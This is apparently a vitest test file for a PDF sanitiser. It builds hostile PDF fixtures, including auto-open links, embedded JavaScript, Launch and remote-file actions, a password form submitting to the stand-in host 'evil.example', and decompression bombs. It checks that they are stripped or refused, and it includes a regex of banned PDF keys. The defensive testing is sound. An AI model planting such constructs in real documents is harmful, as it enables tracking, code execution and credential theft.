import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import { expect, test } from "vitest";
import { packedStream, pdfOf, plainStream } from "#server/testing/customer-files.ts";
import { readWhole, viewPdf } from "#server/testing/view-pdf.ts";
import { rewritePdf } from "./rewrite-pdf.ts";

/** In all that may not arrive. */
const evil = "evil.example";

async function rewrite(pdf: Uint8Array): Promise<Uint8Array> {
  const written = await rewritePdf(pdf);
  if (typeof written === "string") throw new Error(written);
  return written;
}

const link = `<< /S /URI /URI (https://${evil}) >>`;
const annotation = (more: string): string => `<< /Type /Annot /Rect [0 0 306 396] ${more} >>`;
const file = `<< /Type /Filespec /FS /URL /F (https://${evil}/x) >>`;
const title = "BT /F 18 Tf 40 340 Td (Loss run 2025) Tj ET";
const later = (body: string): string => `${body}\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n`;

test.each<[string, Buffer]>([
  [
    "a link over the page",
    pdfOf({ page: `/Annots [5 0 R]`, objects: [annotation(`/Subtype /Link /A ${link}`)] }),
  ],
  ["a site that opens with it", pdfOf({ catalog: `/OpenAction ${link}` })],
  [
    "a site that opens with its page, and when it is printed",
    pdfOf({ catalog: `/AA << /WP ${link} >>`, page: `/AA << /O ${link} >>` }),
  ],
  ["a script", pdfOf({ catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${evil}"\\)) >>` })],
  [
    "scripts with names",
    pdfOf({
      catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS 5 0 R >>] >> >>`,
      objects: [packedStream(evil, "")],
    }),
  ],
  ["names in other letters", pdfOf({ catalog: `/#4FpenAction << /S /#4Aava#53cript /JS (${evil}) >>` })],
  ["a program it starts", pdfOf({ page: `/AA << /O << /S /Launch /F (${evil}) >> >>` })],
  ["another file it goes to", pdfOf({ catalog: `/OpenAction << /S /GoToR /F ${file} >>` })],
  [
    "media by address",
    pdfOf({
      page: "/Annots [5 0 R]",
      objects: [
        annotation(`/Subtype /Screen /A << /S /Rendition /R << /S /MR /C << /S /MCD /D ${file} >> >> >>`),
      ],
    }),
  ],
  [
    "a movie and a sound",
    pdfOf({
      page: "/Annots [5 0 R 6 0 R]",
      objects: [
        annotation(`/Subtype /Movie /Movie << /F ${file} >>`),
        annotation(`/Subtype /Sound /Sound << /F ${file} >>`),
      ],
    }),
  ],
  [
    "a form that sends a password",
    pdfOf({
      catalog: "/AcroForm << /Fields [5 0 R] >>",
      page: "/Annots [5 0 R]",
      objects: [
        annotation(`/Subtype /Widget /FT /Tx /T (password ${evil}) /A << /S /SubmitForm /F ${file} >>`),
      ],
    }),
  ],
  [
    "a form of Adobe beside its fields",
    pdfOf({
      catalog: "/AcroForm << /Fields [5 0 R] /XFA 6 0 R >>",
      objects: [annotation("/Subtype /Widget /FT /Tx /T (a)"), packedStream(evil, "")],
    }),
  ],
  [
    "contents in another file",
    pdfOf({ page: "/Contents [4 0 R 5 0 R]", objects: [plainStream("", `/F ${file} /FFilter /Crypt`)] }),
  ],
  [
    "a picture in another file",
    pdfOf({
      page: "/Resources << /Font << /F 99 0 R >> /XObject << /I 5 0 R >> >>",
      objects: [
        plainStream("x", `/Subtype /Image /Width 1 /Height 1 /F ${file} /OPI ${file} /Alternates [${file}]`),
      ],
    }),
  ],
  [
    "a page of another file",
    pdfOf({
      page: "/Resources << /Font << /F 99 0 R >> /XObject << /I 5 0 R >> >>",
      objects: [plainStream("", `/Subtype /Form /BBox [0 0 1 1] /Ref << /F ${file} /Page 0 >>`)],
    }),
  ],
  [
    "a program for printers",
    pdfOf({
      page: "/Resources << /Font << /F 99 0 R >> /XObject << /I 5 0 R >> >>",
      objects: [plainStream(`(${evil}) run`, "/Subtype /PS")],
    }),
  ],
  [
    "an outline, a title, names of others",
    pdfOf({
      catalog: `/Outlines << /First << /Title (x) /A ${link} >> >> /Metadata 5 0 R /URI << /Base (https://${evil}) >> /PieceInfo << /X (${evil}) >> /AF [${file}]`,
      page: `/Metadata 5 0 R /PieceInfo << /X (${evil}) >> /Thumb 5 0 R /B [5 0 R] /Tabs /S /PresSteps ${link}`,
      objects: [packedStream(evil, "/Type /Metadata")],
    }),
  ],
  [
    "actions among packed objects",
    pdfOf({
      catalog: "/OpenAction 7 0 R",
      objects: [packedStream(`7 0 ${link}`, "/Type /ObjStm /N 1 /First 4")],
    }),
  ],
  [
    "an earlier version",
    Buffer.concat([
      Buffer.from(
        pdfOf({ page: `/Rotate 0` }).toString("latin1").replace("Loss run 2025", evil.padEnd(13)),
        "latin1",
      ),
      Buffer.from(later(`4 0 obj\n${plainStream(title)}\nendobj`)),
    ]),
  ],
  ["what follows its end", Buffer.concat([pdfOf({}), Buffer.from(`PK\u0003\u0004 ${evil}`)])],
])("%s doesn't arrive, and the page does", async (_what, pdf) => {
  const written = await rewrite(pdf);
  const { pages, beside } = await viewPdf(written);
  expect(pages.map((page) => [page.text.trim(), page.annotations])).toEqual([["Loss run 2025", []]]);
  expect(beside).toEqual([null, null, null, null, null]);
  const all = await readWhole(written);
  expect(all).not.toContain(evil);
  expect(all).not.toMatch(
    /\/(?:AA|AcroForm|Annots|EF|FFilter|JS|Launch|Metadata|Names|OPI|OpenAction|Outlines|Ref|URI|XFA)\b/,
  );
  expect(Buffer.from(written).toString("latin1")).toMatch(/^%PDF-1\.7\n[^]*startxref\n\d+\n%%EOF$/);
  expect(all.match(/%%EOF/g)).toHaveLength(1);
});

const mark = (more: string): string => `<< /Type /Annot /Rect [60 100 220 180] ${more} >>`;
const noLook = (subtype: string) =>
  pdfOf({ page: "/Annots [5 0 R]", objects: [mark(`/Subtype /${subtype} /Contents (Open claim)`)] });
const pagesOf = (kids: string, ...objects: readonly string[]) =>
  pdfOf({ catalog: "/Pages 5 0 R", objects: [`<< /Type /Pages /Kids [${kids}] >>`, ...objects] });
/** 300 pages that all have the same resources, which are written once. */
const sharing = (resources: string) =>
  pdfOf({
    catalog: "/Pages 5 0 R",
    objects: [
      `<< /Type /Pages /Kids [${Array.from({ length: 300 }, (_, page) => `${page + 6} 0 R`).join(" ")}] /Resources ${resources} >>`,
      ...Array.from({ length: 300 }, () => "<< /Type /Page /MediaBox [0 0 9 9] >>"),
    ],
  });
const long = randomBytes(40_000).toString("hex");
const bomb = deflateSync(Buffer.alloc(50_000_000, " "));

test.each<[string, Uint8Array, string]>([
  [
    "a password",
    Buffer.from(pdfOf({}).toString("latin1").replace("/Root 1 0 R", "/Root 1 0 R /Encrypt << /V 1 >>")),
    "encrypted",
  ],
  ["text on it that says not how it looks", noLook("FreeText"), "marked"],
  ["a signature by hand that says not how it looks", noLook("Ink"), "marked"],
  [
    "text in a field that can't be drawn",
    pdfOf({
      catalog: "/AcroForm << /Fields [5 0 R] >>",
      page: "/Annots [5 0 R]",
      objects: [mark("/Subtype /Widget /FT /Tx /T (a) /DA (/F 9 Tf) /V <FEFF4E2D>")],
    }),
    "marked",
  ],
  ["a form of Adobe's own", pdfOf({ catalog: "/AcroForm << /Fields [] /XFA 5 0 R >>" }), "dynamic"],
  ["a form that must be rendered", pdfOf({ catalog: "/NeedsRendering true" }), "dynamic"],
  ["pages in a circle", pagesOf("5 0 R"), "unreadable"],
  ["a page twice", pagesOf("3 0 R 3 0 R"), "unreadable"],
  ["no page", pagesOf(""), "unreadable"],
  ["a million pages", pagesOf("3 0 R ".repeat(1_000_000)), "complex"],
  [
    "a long text on every page",
    sharing(`<< /ColorSpace << /C [/Indexed /DeviceRGB 1 <${long}>] >> >>`),
    "complex",
  ],
  ["a long name on every page", sharing(`<< /Font << /${long} 99 0 R >> >>`), "complex"],
  ["a long list on every page", sharing(`<< /ProcSet [${"/PDF ".repeat(20_000)}] >>`), "complex"],
  ["references in a circle", pdfOf({ page: "/Annots 5 0 R", objects: ["6 0 R", "5 0 R"] }), "unreadable"],
  [
    "objects packed twice",
    pdfOf({
      objects: [
        plainStream(
          deflateSync("7 0 null").toString("hex"),
          "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]",
        ),
      ],
    }),
    "unreadable",
  ],
  [
    "a bomb of objects",
    pdfOf({
      objects: [plainStream(bomb.toString("latin1"), "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")],
    }),
    "complex",
  ],
  ["a page that is broken", pdfOf({ page: "/Annots [5 0 R]", objects: ["<< /Subtype ) >>"] }), "unreadable"],
])("a PDF with %s is refused", async (_what, pdf, fault) => {
  expect(await rewritePdf(pdf)).toBe(fault);
});

test.each<[string, Uint8Array]>([
  [
    "a table of contents that is a bomb",
    pdfOf({
      objects: [
        plainStream(
          bomb.toString("latin1"),
          "/Type /XRef /Size 900000000 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode",
        ),
      ],
    }),
  ],
  [
    "forms that hold themselves",
    pdfOf({
      page: "/Resources << /Font << /F 99 0 R >> /XObject << /X 5 0 R >> >>",
      objects: [plainStream("", "/BBox [0 0 9 9] /Subtype /Form /Resources << /XObject << /X 5 0 R >> >>")],
    }),
  ],
])("a PDF with %s is written in a moment", async (_what, pdf) => {
  expect((await viewPdf(await rewrite(pdf))).pages[0]?.text).toContain("Loss run 2025");
});
